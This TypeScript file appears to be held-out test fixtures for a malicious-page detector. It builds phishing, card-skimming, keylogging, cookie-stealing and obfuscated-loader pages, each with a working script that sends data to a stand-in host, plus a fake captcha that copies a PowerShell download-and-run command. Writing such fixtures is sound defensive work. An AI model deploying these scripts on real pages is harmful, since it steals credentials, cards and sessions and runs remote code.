/** Hostile scripts that were written after the rules, and not looked at while the rules were made. */
import { prose } from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { charCodes, percentEscapes } from './obfuscation.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`;
const script = (code: string) => `<script>${code}</script>`;
const site = (name: string, body: string) => page('Elm cottage', `${prose(name, 'news', 2)}${body}`);
const BLOG = 'https://www.elm-cottage.example/journal';
const TILL = 'https://shop.elm-cottage.example/checkout';
const login =
  '<form id="a"><input name="mail" type="email"><input name="secret" type="password"><button>Next</button></form>';
const words =
  '<label>Secret recovery phrase <textarea id="w" name="mnemonic"></textarea></label><button id="go">Restore</button>';
const card =
  '<form id="c"><input id="num" name="card_number"><input id="exp" name="exp_date"><input id="cvv" name="cvv"><button>Pay</button></form>';

export const hostileLater: PageFixture[] = [
  hostile(
    'phrase by axios',
    'seed phrase phishing',
    'https://restore-now.example/',
    page('Restore', words + script(`go.onclick=()=>axios.post('https://phr-store.example/in',{m:w.value})`)),
  ),
  hostile(
    'phrase by a worker of functions',
    'seed phrase phishing',
    'https://sync-app.example/',
    page(
      'Sync',
      words +
        script(
          `class Api{constructor(u){this.u=u}save(x){return fetch(this.u,{method:'PUT',body:x})}}const api=new Api('https://sync-store.example/p');go.addEventListener('click',()=>api.save(document.getElementById('w').value))`,
        ),
    ),
  ),
  hostile(
    'log-in by a promise chain',
    'credential phishing',
    'https://share-docs.example/',
    page(
      'Documents',
      login +
        script(
          `const read=()=>Promise.resolve({m:a.mail.value,s:a.secret.value});a.onsubmit=e=>{e.preventDefault();read().then(JSON.stringify).then(b=>fetch('https://docs-in.example/1',{method:'POST',body:b}))}`,
        ),
    ),
  ),
  hostile(
    'log-in with a list of parts',
    'credential phishing',
    'https://voicemail.example/',
    page(
      'Voice mail',
      login +
        script(
          `a.onsubmit=function(){var p=[];for(var i=0;i<a.elements.length;i++){p.push(a.elements[i].name+'='+a.elements[i].value)}var r=new XMLHttpRequest();r.open('POST','https://vm-in.example/v');r.send(p.join('&'));return false}`,
        ),
    ),
  ),
  hostile(
    'log-in with fields found by their type',
    'credential phishing',
    'https://quota-full.example/',
    page(
      'Mailbox full',
      login +
        script(
          `document.addEventListener('submit',e=>{e.preventDefault();const f=e.target,q=s=>f.querySelector(s).value;fetch('https://quota-in.example/',{method:'POST',body:q('[type=email]')+'|'+q('[type=password]')})})`,
        ),
    ),
  ),
  hostile(
    'form whose action is set on the button',
    'credential phishing',
    'https://pay-slip.example/',
    page(
      'Payslip',
      `<form><input type=password name=pass><button formaction="https://slip-in.example/p.php">Open</button></form>`,
    ),
  ),
  hostile(
    'form written by a script of codes',
    'credential phishing',
    'https://open-invoice.example/',
    page(
      'Invoice',
      script(
        charCodes(
          `document.body.innerHTML='<form action="https://inv-in.example/x.php" method="post"><input name="login"><input type="password" name="pwd"><button>View</button></form>'`,
        ),
      ),
    ),
  ),
  hostile(
    'form in hexadecimal',
    'credential phishing',
    'https://scan-doc.example/',
    page(
      'Scan',
      script(
        `var h='${hex('<form action="https://scan-in.example/x.php" method="post"><input name="login"><input type="password" name="pwd"></form>')}',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(s)`,
      ),
    ),
  ),
  hostile(
    'webhook of a chat',
    'credential phishing',
    'https://gift-nitro.example/',
    page(
      'Gift',
      login +
        script(
          `a.onsubmit=e=>{e.preventDefault();fetch('https://discord.com/api/webhooks/1/NOT-A-TOKEN',{method:'POST',body:JSON.stringify({content:a.mail.value+' '+a.secret.value})})}`,
        ),
    ),
  ),
  hostile(
    'frame that covers the page with a log-in in its address',
    'credential phishing',
    'https://reader-view.example/',
    page(
      'Reader',
      script(
        `var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%';f.srcdoc=atob('${base64('<form action="https://rv-in.example/p" method="post"><input type="password" name="p"></form>')}');document.body.append(f)`,
      ),
    ),
  ),
  hostile(
    'skimmer by jQuery',
    'card skimmer',
    TILL,
    page(
      'Checkout',
      card +
        script(
          `jQuery('#c').on('submit',function(){jQuery.ajax({url:'https://jq-cdn-stat.example/s',type:'POST',data:{n:jQuery('#num').val(),v:jQuery('#cvv').val()}})})`,
        ),
    ),
  ),
  hostile(
    'skimmer that waits for each field',
    'card skimmer',
    TILL,
    page(
      'Checkout',
      card +
        script(
          `var d={};['num','exp','cvv'].forEach(function(k){document.getElementById(k).addEventListener('blur',function(){d[k]=this.value;if(Object.keys(d).length==3){(new Image).src='https://gtm-static.example/i?x='+btoa(JSON.stringify(d))}})})`,
        ),
    ),
  ),
  hostile(
    'skimmer over a socket with its host reversed',
    'card skimmer',
    TILL,
    page(
      'Checkout',
      card +
        script(
          `var w=new WebSocket('ssw'.split('').reverse().join('')+'://'+'elpmaxe.kcos-tats'.split('').reverse().join('')+'/');c.oninput=function(e){w.send(e.target.name+e.target.value)}`,
        ),
    ),
  ),
  hostile(
    'keys gathered in a list',
    'keylogger',
    BLOG,
    site(
      'keys list',
      script(
        `const b=[];document.addEventListener('keyup',ev=>{b.push(ev.key)});setInterval(()=>{if(b.length)fetch('https://kk-log.example/',{method:'POST',body:b.splice(0).join('')})},4000)`,
      ),
    ),
  ),
  hostile(
    'cookies by a form of a picture',
    'session theft',
    BLOG,
    site(
      'cookies',
      script(
        `var i=document.createElement('img');i.src='https://cj-log.example/?'+btoa(document.cookie);document.body.appendChild(i)`,
      ),
    ),
  ),
  hostile(
    'loader of percent escapes',
    'obfuscated loader',
    BLOG,
    site(
      'percent',
      script(
        `eval(decodeURIComponent('${percentEscapes("var s=document.createElement('script');s.src='https://pe-load.quest/x.js';document.body.appendChild(s)")}'))`,
      ),
    ),
  ),
  hostile(
    'loader in pieces of base64',
    'obfuscated loader',
    BLOG,
    site(
      'pieces',
      script(
        `var q='${base64('https://piece-load.bond/m.js')}';var z=q.slice(0,10)+q.slice(10);var e=document.createElement('script');e.src=atob(z);document.head.appendChild(e)`,
      ),
    ),
  ),
  hostile(
    'cipher behind a constructor',
    'obfuscated loader',
    BLOG,
    site(
      'constructor',
      script(
        `var t='${Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * 193 + ((i * i * 7) % 241)) % 256)).toString('base64')}';var o='';for(var j=0,u=atob(t);j<u.length;j++)o+=String.fromCharCode(u.charCodeAt(j)^(j*screen.width)%255);[]['constructor']['constructor'](o)()`,
      ),
    ),
  ),
  hostile(
    'command for the clipboard in a list',
    'fake captcha',
    'https://check-browser.example/',
    page(
      'Verify you are human',
      `<p>Press Win+R, press Ctrl+V and press Enter</p><button id=v>Verify</button>` +
        script(
          `const c=['power','shell -w h -c "irm https://cc-cmd.example/s|iex"'].join('');v.onclick=()=>navigator.clipboard.writeText(c)`,
        ),
    ),
  ),
  hostile(
    'clipboard sent at each paste',
    'spy',
    BLOG,
    site(
      'paste',
      script(
        `document.addEventListener('paste',e=>{navigator.sendBeacon('https://pp-log.example/',e.clipboardData.getData('text'))})`,
      ),
    ),
  ),
];
